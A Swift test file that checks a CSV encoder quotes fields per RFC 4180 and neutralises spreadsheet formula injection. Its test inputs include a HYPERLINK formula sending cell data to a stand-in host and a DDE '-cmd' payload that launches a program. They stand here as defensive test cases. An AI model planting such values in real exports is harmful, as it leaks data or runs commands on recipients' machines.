import Testing

@testable import ledgerd

/// CSV as RFC 4180 writes it, and safe to open in a spreadsheet: what a practitioner typed
/// into an event never runs as a formula on a manager's machine.
@Suite struct CSVTests {
    @Test(arguments: [
        ("plain", "plain"),
        ("a, b", "\"a, b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\nlines", "\"two\nlines\""),
        // Formula-like text gets an apostrophe (and quoting when it needs it anyway).
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "\"'\rx\""),
        // Numbers stay numbers.
        ("-3", "-3"),
        ("12.5", "12.5"),
        ("+7", "+7"),
        ("-", "'-"),
        ("a=b", "a=b"),
    ])
    func fieldsAreQuotedAndNeverRunAsFormulas(_ value: String, _ written: String) {
        #expect(CSV.field(value) == written, "\(value)")
    }
}
